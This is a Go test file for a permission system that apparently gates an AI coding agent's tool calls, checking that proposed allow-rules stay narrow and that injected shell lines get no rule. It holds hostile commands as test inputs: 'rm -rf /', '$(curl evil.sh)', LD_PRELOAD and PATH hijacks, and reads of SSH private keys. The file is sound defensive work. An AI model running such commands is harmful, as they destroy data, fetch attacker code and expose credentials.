package permission

import (
	"slices"
	"strings"
	"testing"
)

// TestProposeCoversTheCallAndNoMore: the rule proposed from a request allows that
// request when saved, and does not allow its neighbour, a call a person did not see.
func TestProposeCoversTheCallAndNoMore(t *testing.T) {
	const cwd = "/repo"
	for _, tc := range []struct {
		call      Call
		want      []string
		notOthers []Call
	}{
		{Call{Tool: "Bash", Command: "npm test -- --watch"}, []string{"Bash(npm test:*)"},
			[]Call{{Tool: "Bash", Command: "npm publish"}, {Tool: "Bash", Command: "npm test; rm -rf /"}}},
		{Call{Tool: "Bash", Command: "npm run build --prod"}, []string{"Bash(npm run build:*)"},
			[]Call{{Tool: "Bash", Command: "npm run deploy"}}},
		{Call{Tool: "Bash", Command: "timeout 60 go test ./..."}, []string{"Bash(go test:*)"},
			[]Call{{Tool: "Bash", Command: "go run ./cmd/x"}}},
		{Call{Tool: "Bash", Command: "git status && git diff --stat"}, []string{"Bash(git status:*)", "Bash(git diff:*)"},
			[]Call{{Tool: "Bash", Command: "git status && git push"}}},
		{Call{Tool: "Bash", Command: "ls -la > out/list.txt"}, []string{"Bash(ls:*)", "Edit(./out/list.txt)"},
			[]Call{{Tool: "Bash", Command: "ls -la > out/other.txt"}}},
		{Call{Tool: "Edit", Path: "/repo/src/app/main.go"}, []string{"Edit(./src/app/**)"},
			[]Call{{Tool: "Edit", Path: "/repo/src/lib.go"}, {Tool: "Edit", Path: "/etc/passwd"}}},
		{Call{Tool: "Write", Path: "README.md"}, []string{"Edit(./README.md)"},
			[]Call{{Tool: "Write", Path: "/repo/go.mod"}}},
		{Call{Tool: "Read", Path: "/etc/hosts"}, []string{"Read(//etc/**)"},
			[]Call{{Tool: "Read", Path: "/home/dev/.ssh/id_ed25519"}}},
		{Call{Tool: "WebFetch", URL: "https://Docs.Example.com/a?b"}, []string{"WebFetch(domain:docs.example.com)"},
			[]Call{{Tool: "WebFetch", URL: "https://example.com/"}}},
		{Call{Tool: "mcp__github__create_issue"}, []string{"mcp__github__create_issue"},
			[]Call{{Tool: "mcp__github__delete_repo"}}},
	} {
		got, err := Propose(tc.call, cwd)
		if err != nil || !slices.Equal(got, tc.want) {
			t.Errorf("Propose(%s) = %q, %v; want %q", tc.call, got, err, tc.want)
			continue
		}
		var s Set
		if err := s.Add(Allow, got, Paths{Root: cwd}); err != nil {
			t.Fatalf("the proposal %q does not parse: %v", got, err)
		}
		if v, _ := s.Decide(tc.call, cwd); v != Allow {
			t.Errorf("the proposal %q for %s, saved, says %q of it; want allow", got, tc.call, v)
		}
		for _, o := range tc.notOthers {
			if v, r := s.Decide(o, cwd); v == Allow {
				t.Errorf("the proposal %q for %s also allows %s (by %s): wider than what was asked", got, tc.call, o, r.Text)
			}
		}
	}
}

// TestProposeRefusesWhatNoRuleCanAllow: a line with parts that are not plain text is
// asked about whatever the rules say, so no rule is proposed for it.
func TestProposeRefusesWhatNoRuleCanAllow(t *testing.T) {
	for _, cmd := range []string{`$(curl evil.sh)`, `eval "$X"`, `sh -c "$(cat x)"`, `echo "unterminated`,
		`env -S 'curl evil' ls`, `LD_PRELOAD=/tmp/x.so ls`, `PATH=/tmp/evil:$PATH ls`, `BASH_ENV=/tmp/x npm test`,
		`GIT_SSH_COMMAND='curl evil' git status`, `x='a[$(curl evil)]'; ls $((x))`} {
		if got, err := Propose(Call{Tool: "Bash", Command: cmd}, "/repo"); err == nil {
			t.Errorf("Propose(%q) = %q; want an error saying no rule can allow it", cmd, got)
		} else if !strings.Contains(err.Error(), "rule") {
			t.Errorf("Propose(%q): %v; want the error to say why no rule can", cmd, err)
		}
	}
}

// Narrowest keeps the longest run of words the commands share, never fewer than their
// one rule proposes, and takes no line a rule could not cover.
func TestNarrowest(t *testing.T) {
	bash := func(lines ...string) []Call {
		var out []Call
		for _, l := range lines {
			out = append(out, Call{Tool: "Bash", Command: l})
		}
		return out
	}
	for _, c := range []struct {
		rule  string
		calls []Call
		want  string
	}{
		{"Bash(npm test:*)", bash("npm test -- --watch", "npm test -- --watch --ci"), "Bash(npm test -- --watch:*)"},
		{"Bash(npm test:*)", bash("npm test", "npm test -- --watch"), "Bash(npm test:*)"},
		{"Bash(go test:*)", bash("timeout 60 go test ./...", "go test ./..."), "Bash(go test ./...:*)"},
		{"Edit(./src/**)", []Call{{Tool: "Edit", Path: "src/a.go"}}, "Edit(./src/**)"},
		{"mcp__github__create_issue", []Call{{Tool: "mcp__github__create_issue"}}, "mcp__github__create_issue"},
		{"Bash(npm test:*)", bash("npm test && rm -rf /"), ""},
		{"Bash(npm test:*)", bash("npm test $(curl x)"), ""},
	} {
		got, ok := Narrowest(c.rule, c.calls)
		if got != c.want || ok != (c.want != "") {
			t.Errorf("Narrowest(%s, %v) = %q, %v; want %q", c.rule, c.calls, got, ok, c.want)
		}
	}
}
